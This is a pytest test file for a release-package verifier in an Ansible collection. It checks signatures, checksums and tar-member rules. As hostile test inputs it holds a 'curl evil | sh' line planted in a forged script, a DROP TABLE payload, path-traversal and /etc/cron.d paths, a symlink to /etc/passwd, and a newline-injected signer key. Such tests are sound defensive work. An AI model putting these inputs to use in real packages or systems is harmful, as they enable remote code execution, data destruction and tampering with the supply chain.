"""One-pass verification and unpacking of release packages, signatures included."""

import io
import os
import subprocess
import sys
import tarfile

import pytest
import yaml

from ansible_collections.otap.street.plugins.module_utils.package_verify import verify_package
from ansible_collections.otap.street.plugins.module_utils.release_package import (
    PackageRefused,
    scan_source,
    write_package,
)
from ansible_collections.otap.street.plugins.module_utils.signature import SignatureError, allowed_signers, sign

DATE = "2026-11-24T10:00:00Z"


def keypair(tmp_path, name):
    key = tmp_path / name
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return str(key), (tmp_path / f"{name}.pub").read_text().strip()


@pytest.fixture
def agency(tmp_path):
    key, public = keypair(tmp_path, "agency")
    return {"key": key, "signers": [{"principal": "agency", "key": public}]}


def build(src, tmp_path, release=2, key=None):
    manifest = scan_source(src, release, release - 1, "agency", DATE)
    dest = tmp_path / f"release-{release}.tar.gz"
    checksum = write_package(src, manifest, dest, mtime=1795600000)
    signature = open(sign(str(dest), key), "rb").read() if key else None
    return manifest, dest, checksum, signature


def rewrite(package, change):
    with tarfile.open(package, "r:gz") as tar:
        members = [(m, tar.extractfile(m).read() if m.isfile() else b"") for m in tar.getmembers()]
    with tarfile.open(package, "w:gz") as tar:
        for info, data in members:
            result = change(info.name, data, info)
            if result is None:
                continue
            name, data, info = result
            info.name, info.size = name, len(data)
            tar.addfile(info, io.BytesIO(data) if info.isfile() else None)


def refusal(excinfo) -> str:
    return "; ".join(str(v) for v in excinfo.value.violations)


def test_a_signed_package_verifies_and_unpacks_what_was_verified(source, tmp_path, agency):
    manifest, package, checksum, signature = build(source, tmp_path, key=agency["key"])
    out = tmp_path / "unpacked" / "2"
    assert verify_package(package, 2, checksum, signature, agency["signers"], extract_to=out) == manifest
    assert (out / "files" / "templates" / "cassiopeia" / "index.php").read_text() == "<?php echo 'v2';\n"
    assert os.stat(out / "files" / "cli.sh").st_mode & 0o777 == 0o755
    assert (out / "sql" / "001-badge.sql").read_text().startswith("ALTER TABLE")
    assert (out / "RELEASE.md").read_text().startswith("# New footer")
    assert yaml.safe_load((out / "manifest.yml").read_text()) == manifest
    assert sorted(os.listdir(out.parent)) == ["2"], "no staging folder is left behind"


def test_a_package_replaced_together_with_its_checksum_is_refused_by_its_signature(source, tmp_path, agency):
    _, package, _, signature = build(source, tmp_path, key=agency["key"])
    (source / "files" / "cli.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    _, forged, forged_sum, _ = build(source, tmp_path / "..", key=None)
    out = tmp_path / "unpacked" / "2"
    with pytest.raises(PackageRefused) as excinfo:
        verify_package(forged, 2, forged_sum, signature, agency["signers"], extract_to=out)
    assert "signature does not match its contents" in refusal(excinfo)
    assert not out.exists() and os.listdir(out.parent) == []


def test_a_package_signed_by_another_key_is_refused(source, tmp_path, agency):
    other, _ = keypair(tmp_path, "intruder")
    _, package, checksum, signature = build(source, tmp_path, key=other)
    with pytest.raises(PackageRefused, match="not by any of the agency's keys"):
        verify_package(package, 2, checksum, signature, agency["signers"])


def test_a_missing_or_garbage_signature_is_refused(source, tmp_path, agency):
    _, package, checksum, _ = build(source, tmp_path)
    for signature in (b"", b"-----BEGIN SSH SIGNATURE-----\ngarbage\n-----END SSH SIGNATURE-----\n"):
        with pytest.raises(PackageRefused, match="signature"):
            verify_package(package, 2, checksum, signature, agency["signers"])


def test_a_signature_made_for_another_purpose_is_refused(source, tmp_path, agency):
    _, package, checksum, _ = build(source, tmp_path)
    subprocess.run(["ssh-keygen", "-q", "-Y", "sign", "-f", agency["key"], "-n", "git", str(package)], check=True)
    with pytest.raises(PackageRefused, match="signature"):
        verify_package(package, 2, checksum, (tmp_path / "release-2.tar.gz.sig").read_bytes(), agency["signers"])


def test_the_register_checksum_is_checked_too(source, tmp_path, agency):
    _, package, _, signature = build(source, tmp_path, key=agency["key"])
    with pytest.raises(PackageRefused, match="checksum differs from the register"):
        verify_package(package, 2, "0" * 64, signature, agency["signers"])


@pytest.mark.parametrize("signers", [
    [{"principal": "agency x", "key": "ssh-ed25519 AAAA"}],
    [{"principal": "agency", "key": "cert-authority ssh-ed25519 AAAA"}],
    [{"principal": "agency", "key": 'ssh-ed25519 AAAA\n* namespaces="otap-release" ssh-ed25519 BBBB'}],
    [],
])
def test_signers_from_the_inventory_are_plain_keys(signers):
    with pytest.raises(SignatureError):
        allowed_signers(signers)


@pytest.mark.parametrize(("change", "rule"), [
    (lambda n, d, i: (n, d + b"tampered", i) if n.endswith("index.php") else (n, d, i),
     "files/templates/cassiopeia/index.php: checksum does not match"),
    (lambda n, d, i: (n, b"DROP TABLE #__content;", i) if n.startswith("sql/") else (n, d, i),
     "checksum does not match"),
    (lambda n, d, i: ("files/../../escape.php", d, i) if n == "files/cli.sh" else (n, d, i), "path escape"),
    (lambda n, d, i: ("/etc/cron.d/x", d, i) if n == "files/cli.sh" else (n, d, i), "absolute path"),
    (lambda n, d, i: None if n == "files/cli.sh" else (n, d, i), "files/cli.sh: listed in the manifest but not"),
    (lambda n, d, i: None if n == "manifest.yml" else (n, d, i), "manifest.yml: must be the package's first member"),
    (lambda n, d, i: ("files/extra.php", d, i) if n == "files/cli.sh" else (n, d, i), "files/extra.php: in the package"),
])
def test_tampered_packages_are_refused(source, tmp_path, change, rule):
    _, package, _, _ = build(source, tmp_path)
    rewrite(package, change)
    out = tmp_path / "unpacked" / "2"
    with pytest.raises(PackageRefused) as excinfo:
        verify_package(package, expected_release=2, extract_to=out)
    assert rule in refusal(excinfo)
    assert not out.exists()


def test_a_link_inside_a_package_is_refused(source, tmp_path):
    _, package, _, _ = build(source, tmp_path)

    def add_link(name, data, info):
        if name == "files/cli.sh":
            info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
            return name, b"", info
        return name, data, info

    rewrite(package, add_link)
    with pytest.raises(PackageRefused) as excinfo:
        verify_package(package)
    assert "files/cli.sh: link" in refusal(excinfo)


def test_a_manifest_that_smuggles_a_content_path_is_refused(source, tmp_path):
    _, package, _, _ = build(source, tmp_path)

    def smuggle(name, data, info):
        if name == "manifest.yml":
            manifest = yaml.safe_load(data)
            manifest["deletions"].append("images/portal/hospital.svg")
            return name, yaml.safe_dump(manifest).encode(), info
        return name, data, info

    rewrite(package, smuggle)
    with pytest.raises(PackageRefused, match="deletion images/portal/hospital.svg: content path"):
        verify_package(package)


def test_sql_smuggled_past_packaging_is_refused_where_the_policy_runs(source, tmp_path):
    (source / "RELEASE.md").write_text("# Footer\n\nJoomla-Update: core\n")
    (source / "sql" / "002.sql").write_text("DELETE FROM #__menu WHERE id = 3;\n")
    _, package, _, _ = build(source, tmp_path)

    def undeclare(name, data, info):
        if name == "RELEASE.md":
            return name, b"# Footer\n", info
        return name, data, info

    rewrite(package, undeclare)
    with pytest.raises(PackageRefused) as excinfo:
        verify_package(package)
    assert "RELEASE.md: missing or checksum does not match" in refusal(excinfo)


def test_a_number_out_of_sequence_is_refused(source, tmp_path):
    _, package, _, _ = build(source, tmp_path, release=3)
    with pytest.raises(PackageRefused, match="is release 3, expected release 2"):
        verify_package(package, expected_release=2)


def test_a_file_that_is_not_a_package_is_refused(tmp_path):
    bogus = tmp_path / "release-2.tar.gz"
    bogus.write_bytes(b"not a tarball")
    with pytest.raises(PackageRefused, match="not a readable tar.gz"):
        verify_package(bogus)


# VmHWM: this process's own peak (ru_maxrss would carry the forking parent's over exec).
PEAK = """
import re, sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from ansible_collections.otap.street.plugins.module_utils.package_verify import verify_package
if sys.argv[2] != "-":
    verify_package(Path(sys.argv[2]), extract_to=Path(sys.argv[3]))
print(re.search(r"VmHWM:\\s+(\\d+) kB", open("/proc/self/status").read()).group(1))
"""


def big_package(tmp_path, megabytes: int):
    src = tmp_path / "big"
    (src / "files" / "media").mkdir(parents=True)
    (src / "RELEASE.md").write_text("# Big media\n")
    for n in range(megabytes // 8):
        (src / "files" / "media" / f"video-{n}.bin").write_bytes(os.urandom(8 << 20))
    manifest = scan_source(src, 2, 1, "agency", DATE)
    dest = tmp_path / "release-2.tar.gz"
    write_package(src, manifest, dest, mtime=1795600000)
    return dest


def peak_kib(package, out) -> int:
    """The peak memory (KiB) of a process that verifies and unpacks `package`, beyond one that does not."""
    collections = str(__import__("pathlib").Path(__file__).resolve().parents[4] / ".street" / "collections")
    peaks = [int(subprocess.run([sys.executable, "-c", PEAK, collections, *args], capture_output=True, text=True,
                                check=True).stdout) for args in (["-", "-"], [str(package), str(out)])]
    return peaks[1] - peaks[0]


def test_verification_streams_a_large_package_in_bounded_memory(tmp_path):
    package = big_package(tmp_path, 64)
    growth = peak_kib(package, tmp_path / "unpacked" / "2")
    assert (tmp_path / "unpacked" / "2" / "files" / "media" / "video-7.bin").stat().st_size == 8 << 20
    assert growth < 24 * 1024, f"verifying a 64 MiB package grew the process by {growth} KiB"
